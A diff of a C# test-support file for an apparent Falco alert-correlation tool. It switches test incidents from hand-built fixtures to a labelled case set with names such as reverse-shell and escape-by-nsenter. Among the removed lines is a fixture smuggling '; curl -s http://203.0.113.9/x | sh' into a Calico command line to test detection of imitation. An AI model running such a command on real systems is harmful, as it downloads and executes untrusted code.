@@ -1,27 +1,63 @@
+using System.Collections.Concurrent;
 using FalcoStreamer.Alerts;
 using FalcoStreamer.Correlation;
 using FalcoStreamer.Enrichment;
-using FalcoStreamer.Knowledge;
+using FalcoStreamer.Tests.Judging;
 
 namespace FalcoStreamer.Tests.Support;
 
-/// <summary>The situations whose reports a person has read: recorded alerts, and the one it all began with.</summary>
+/// <summary>The situations whose reports a person has read: what people meet, as the program judges it with what it ships.</summary>
 internal static class ReportSituations
 {
     private static readonly IReadOnlyList<FalcoAlert> Http = Recordings.HttpAlerts();
 
-    private static readonly Dictionary<string, Func<Incident>> All = new(StringComparer.Ordinal)
+    private static readonly Lazy<Dictionary<string, JudgementCase>> Labelled = new(() => JudgementCases.All().ToDictionary(judged => judged.Id, StringComparer.Ordinal));
+
+    /// <summary>Situations of the labelled set: the name of the case.</summary>
+    private static readonly Dictionary<string, string> Cases = new(StringComparer.Ordinal)
     {
-        ["calico-benign"] = () => SomeIncidents.Calico(),
-        ["calico-imitated-with-suffix"] = CalicoWithSuffix,
-        ["calico-imitated-in-another-pod"] = CalicoElsewhere,
-        ["entrypoint-two-rules"] = Entrypoint,
-        ["token-looked-at"] = Token,
-        ["terminal-in-container"] = Terminal,
-        ["download-and-execute"] = Sequence,
-        ["host-reads-shadow"] = () => SomeIncidents.Of(SomeIncidents.Node(), SomeIncidents.Undetermined("the terminal (proc.tty)", "who logged in (user.loginuid)"), Http[89]),
-        ["sandbox-of-unknown-pod"] = () => SomeIncidents.Of(SomeIncidents.Unresolved(), SomeIncidents.Undetermined("the pod behind the container"), Http[81]),
-        ["falco-about-itself"] = () => SomeIncidents.Of(SomeIncidents.Node() with { ContainerId = null }, null, Http[245]),
+        ["calico-benign"] = "calico/xdp-seed",
+        ["calico-imitated-with-suffix"] = "calico/xdp-suffix",
+        ["calico-imitated-in-another-pod"] = "calico/xdp-in-another-application",
+        ["liveness-probe"] = "kubernetes/liveness-in-rhythm",
+        ["probe-with-something-behind-it"] = "kubernetes/probe-and-more",
+        ["container-start"] = "kubernetes/entrypoint",
+        ["init-container"] = "kubernetes/init",
+        ["cronjob"] = "kubernetes/cronjob",
+        ["packages-by-specification"] = "kubernetes/packages-below-tini",
+        ["velero-hook"] = "kubernetes/velero-pre",
+        ["terminal-in-container"] = "people/exec-terminal-containerd",
+        ["command-from-outside"] = "people/exec-command",
+        ["kubectl-cp"] = "people/cp-out",
+        ["kubectl-debug"] = "people/debug-container",
+        ["kubectl-debug-node"] = "people/debug-node",
+        ["cluster-role-made"] = "people/role-with-exec",
+        ["exec-by-ci-runner"] = "people/exec-by-ci-runner",
+        ["exec-by-a-stolen-token"] = "people/exec-by-the-pods-own-account",
+        ["velero-hook-with-audit"] = "kubernetes/velero-pre-by-velero",
+        ["looks-around"] = "attacks/looks-around",
+        ["reverse-shell"] = "attacks/reverse-shell-bash",
+        ["escape-by-nsenter"] = "attacks/escape-nsenter",
+        ["spread-over-pods"] = "attacks/spreads",
+        ["cloud-credentials"] = "attacks/cloud-credentials",
+        ["download-and-execute"] = "attacks/moves-in",
+        ["attack-after-a-harmless-start"] = "attacks/after-a-harmless-start",
+        ["packages-at-run-time"] = "unknown/application-installs-packages",
+        ["own-rule"] = "unknown/own-rule-about-a-file",
+        ["no-fields"] = "unknown/all-null",
+        ["program-of-the-node"] = "unknown/process-of-the-node",
+        ["image-unpacked-on-the-node"] = "nodes/unpack-log-k3s",
+    };
+
+    /// <summary>Situations that need more than Falco's alerts and the API server's pods.</summary>
+    private static readonly Dictionary<string, Func<Incident>> Others = new(StringComparer.Ordinal)
+    {
+        ["token-looked-at"] = () => Judged(Http[2], SomeIncidents.Pod()),
+        ["host-reads-shadow"] = () => Judged(Http[89], SomeIncidents.Node()),
+        ["sandbox-of-unknown-pod"] = () => Judged(Http[81], SomeIncidents.Unresolved()),
+        ["falco-about-itself"] = () => Judged(Http[245], SomeIncidents.Node() with { ContainerId = null }),
+        ["falco-lost-events"] = () => Judged(FalcoLoss(), SomeIncidents.Node() with { ContainerId = null }),
+        ["probe-while-falco-lost-events"] = () => Judged(SomePods.CalicoAlert(), SomePods.CalicoSubject(), FalcoLoss()),
         ["deleted-pod"] = DeletedPod,
         ["exec-with-user"] = () => Exec(isAudited: true),
         ["exec-without-audit"] = () => Exec(isAudited: false),
@@ -30,13 +66,33 @@ internal static class ReportSituations
             "K8s Secret Get Successfully",
             fields: [("ka.user.name", "alice@example.com"), ("ka.target.resource", "secrets"), ("ka.target.namespace", "shop"), ("ka.target.name", "db-password"), ("ka.response.code", "200")])),
         ["plugin-source"] = () => Judged(SomeAudits.Of("okta", "Removed MFA Factor from User", fields: [("okta.actor.name", "alice"), ("okta.target.user.name", "bob")])),
-        ["invalid-utf8"] = () => SomeIncidents.Of(
-            SomeIncidents.Node(), null, FalcoAlert.FromProtobuf(Recordings.Messages("falco/grpc-utf8-0.43.1.raw.hex")[1])),
+        ["invalid-utf8"] = () => Judged(FalcoAlert.FromProtobuf(Recordings.Messages("falco/grpc-utf8-0.43.1.raw.hex")[1]), SomeIncidents.Node()),
     };
 
-    public static TheoryData<string> Names => [.. All.Keys];
+    private static readonly ConcurrentDictionary<string, Task<IReadOnlyList<Incident>>> Judgements = new(StringComparer.Ordinal);
 
-    public static Incident Named(string name) => All[name]();
+    public static TheoryData<string> Names => [.. Cases.Keys, .. Others.Keys];
+
+    /// <summary>The incident that a person would open first: the most worrying one, and of a story the one that leads.</summary>
+    public static async Task<Incident> NamedAsync(string name)
+    {
+        if (Others.TryGetValue(name, out var other))
+        {
+            return other();
+        }
+
+        var incidents = await Judgements.GetOrAdd(Cases[name], JudgeAsync);
+        return incidents
+            .OrderByDescending(incident => incident.Judgement.Verdict)
+            .ThenByDescending(incident => incident.Judgement.Sequence?.Id == incident.Id)
+            .First();
+    }
+
+    private static async Task<IReadOnlyList<Incident>> JudgeAsync(string id)
+    {
+        using var court = new CaseCourt(Shipped.Behaviours);
+        return await court.JudgeAsync(Labelled.Value[id], CancellationToken.None);
+    }
 
     /// <summary>A terminal as the shipped knowledge judges it, with or without the request for it in the audit log.</summary>
     private static Incident Exec(bool isAudited)
@@ -47,7 +103,7 @@ internal static class ReportSituations
         var audit = SomeAudits.Exec(
             Some.Time + TimeSpan.FromSeconds(-1),
             ("ka.uri.param[command]", "bash"), ("ka.user.groups", "(dev,system:authenticated)"), ("ka.sourceips", "(10.0.0.7)"), ("ka.useragent", "kubectl/v1.33.1"));
-        var correlator = new Correlator(BehaviourLibrary.Load(null), new CorrelationOptions());
+        var correlator = new Correlator(Shipped.Behaviours, new CorrelationOptions());
         List<IncidentChange> changes = [];
         if (isAudited)
         {
@@ -58,122 +114,33 @@ internal static class ReportSituations
         return changes[^1].Incident;
     }
 
-    private static Incident Judged(FalcoAlert alert)
+    /// <summary>The incident of <paramref name="alert"/> as the shipped knowledge judges it, after what came <paramref name="before"/> on the same node.</summary>
+    private static Incident Judged(FalcoAlert alert, Subject? subject = null, FalcoAlert? before = null)
     {
         List<IncidentChange> changes = [];
-        var subject = PluginSubjects.Of(alert, AuditRequest.From(alert));
-        new Correlator(BehaviourLibrary.Load(null), new CorrelationOptions()).Add(alert, subject, alert.Time, changes);
+        var correlator = new Correlator(Shipped.Behaviours, new CorrelationOptions());
+        if (before is not null)
+        {
+            correlator.Add(before, SomeIncidents.Node(), before.Time, changes);
+        }
+
+        correlator.Add(alert, subject ?? PluginSubjects.Of(alert, AuditRequest.From(alert)), alert.Time, changes);
         return changes[^1].Incident;
     }
 
-    private static Incident CalicoWithSuffix()
-    {
-        var judgement = SomeIncidents.Imitates(
-            SomeIncidents.CalicoBehaviour(), new Evidence("The command goes on behind Felix's own: \"; curl -s http://203.0.113.9/x | sh\"", 10)) with
-        {
-            For = [new("Its parent is calico-node", 3), new("The pod belongs to DaemonSet calico-node", 2)],
-        };
-        return SomeIncidents.Of(SomeIncidents.CalicoPod(), judgement, SomeIncidents.CalicoAlert('B', 1, " || true; curl -s http://203.0.113.9/x | sh"));
-    }
+    /// <summary>As Falco says it three seconds before the other alerts, userspace/falco/event_drops.cpp.</summary>
+    private static FalcoAlert FalcoLoss() => FalcoAlert.FromJson(
+        """
+        {"hostname":"node-1","output":"Falco internal: syscall event drop. 4215 system calls dropped in last second.",
+        "output_fields":{"ebpf_enabled":"1","n_drops":"4215","n_drops_buffer_total":"4215","n_evts":"61240"},
+        "priority":"Debug","rule":"Falco internal: syscall event drop","source":"internal","tags":[],"time":"2025-01-01T09:59:57.000000000Z"}
+        """u8.ToArray());
 
-    private static Incident CalicoElsewhere()
-    {
-        var judgement = SomeIncidents.Imitates(
-            SomeIncidents.CalicoBehaviour(),
-            new("The image is lab.local/busybox, not Calico's", 6),
-            new("No DaemonSet owns the pod", 6)) with
-        { Unseen = ["the parent process (proc.pname)"] };
-        var pod = SomeIncidents.PodFacts("lab", "crash");
-        return SomeIncidents.Of(
-            SomeIncidents.Pod(SomeIncidents.Container() with { Image = "lab.local/busybox:1.35" }, pod) with { ContainerId = "5ae3bfc99961" }, judgement, Http[1]);
-    }
-
-    private static Incident Entrypoint()
-    {
-        var behaviour = new Behaviour
-        {
-            Id = "container-entrypoint-shell",
-            Title = "The container's own command is a shell script",
-            Nature = BehaviourNature.Harmless,
-            Headline = "The shell is container {container}'s own start command, as its specification says",
-            Why = "The specification of {owner} starts container {container} with this command, so the runtime executes it each time the container starts.",
-            Actions = ["Nothing has to be done here. Whoever may change {owner} decides what runs in it: keep that to few people."],
-            Commands = ["kubectl -n {namespace} get {owner} -o yaml", "kubectl -n {namespace} rollout history {owner}"],
-            ExceptionFields = ["container.image.repository", "k8s.ns.name", "proc.name", "proc.cmdline"],
-        };
-        var subject = SomeIncidents.Pod(
-            SomeIncidents.Container(new SecurityFacts { RunAsUser = 1000, AllowPrivilegeEscalation = false }) with { Image = "lab.local/busybox:1.35" },
-            SomeIncidents.PodFacts("lab", "dep-767fd56ff5-csd6p"),
-            new Workload("Deployment", "dep")) with
-        { ContainerId = "d415d36e601c" };
-        return SomeIncidents.Of(
-            subject,
-            SomeIncidents.Matches(behaviour, 0.94, new("The command line equals the container's command in its specification", 6), new("It started within a second of the container", 2)),
-            Http[82],
-            Http[83]);
-    }
-
-    private static Incident Token() =>
-        SomeIncidents.Of(
-            SomeIncidents.Pod(),
-            SomeIncidents.Undetermined("the parent process (proc.pname)", "whether it was entered from outside (proc.vpid, proc.pvpid)"),
-            Http[2]);
-
-    private static Incident Terminal()
-    {
-        var behaviour = new Behaviour
-        {
-            Id = "kubectl-exec-interactive",
-            Title = "Somebody has opened a session in the container through the API server",
-            Nature = BehaviourNature.Unattributed,
-            Headline = "Somebody opened a terminal in {subject}; the audit log says who",
-            Why = "A terminal is attached and the container runtime started the shell, which is what kubectl exec, k9s or Lens do. A stolen kubeconfig looks the same.",
-            Actions = ["Look into the API server's audit log for pods/exec on {namespace}/{pod} at {time}: its user and source address decide this."],
-            Commands = ["kubectl -n {namespace} get rolebindings,clusterrolebindings -o wide"],
-            Attack = ["T1609"],
-        };
-        return SomeIncidents.Of(
-            SomeIncidents.CalicoPod() with { ContainerId = "1a95d5d59b2e", Name = "calico-node-x7k2p", Owner = null, Image = "registry.lab.local:5000/platform/busybox:1.36" },
-            SomeIncidents.Matches(behaviour, 0, new("A terminal is attached (proc.tty is 34816)", 3), new("Its parent is containerd-shim", 3)) with { Unseen = ["who is logged in (the API server's audit log)"] },
-            Http[215]);
-    }
-
-    private static Incident Sequence()
-    {
-        var behaviour = new Behaviour
-        {
-            Id = "attack-shell-download-exec",
-            Title = "A shell brings in a program and starts it",
-            Nature = BehaviourNature.Attack,
-            Headline = "A program that is not part of the image was brought into {subject} and started",
-            Why = "A shell, a decoded payload and a program from outside the image within minutes in one container is how an intruder works, and hardly how a workload does.",
-            Actions = ["Cordon {node}, keep {namespace}/{pod} for the investigation, then delete it.", "Replace the token of service account {serviceAccount}."],
-            Commands = ["kubectl -n {namespace} get pod {pod} -o yaml"],
-            Attack = ["T1059", "T1105"],
-        };
-        FalcoAlert[] alerts = [Http[162], Http[168], Http[172]];
-        var subject = SomeIncidents.CalicoPod() with { ContainerId = "1a95d5d59b2e", Name = "calico-node-x7k2p", Image = "registry.lab.local:5000/platform/busybox:1.36" };
-        return SomeIncidents.Of(
-            subject,
-            SomeIncidents.Matches(behaviour, 0.97, new Evidence("Three steps of the sequence in one container", 10)) with
-            {
-                Story =
-                [
-                    new(Http[162].Time, "A shell linked sensitive files", Http[162].Rule, Http[162].Id, subject),
-                    new(Http[168].Time, "A program that is not in the image was executed", Http[168].Rule, Http[168].Id, subject),
-                    new(Http[172].Time, "A payload was decoded", Http[172].Rule, Http[172].Id, subject),
-                ],
-            },
-            alerts);
-    }
-
-    private static Incident DeletedPod() =>
-        SomeIncidents.Of(
-            SomeIncidents.Pod(
-                SomeIncidents.Container(SomeIncidents.Restricted() with { ReadOnlyRootFilesystem = null }),
-                SomeIncidents.PodFacts("shop", "worker-28571234-abcde"),
-                new Workload("CronJob", "worker")) with
-            { Resolution = Resolution.Deleted },
-            null,
-            Http[206]);
+    private static Incident DeletedPod() => Judged(
+        Http[206],
+        SomeIncidents.Pod(
+            SomeIncidents.Container(SomeIncidents.Restricted() with { ReadOnlyRootFilesystem = null }),
+            SomeIncidents.PodFacts("shop", "worker-28571234-abcde"),
+            new Workload("CronJob", "worker")) with
+        { Resolution = Resolution.Deleted });
 }
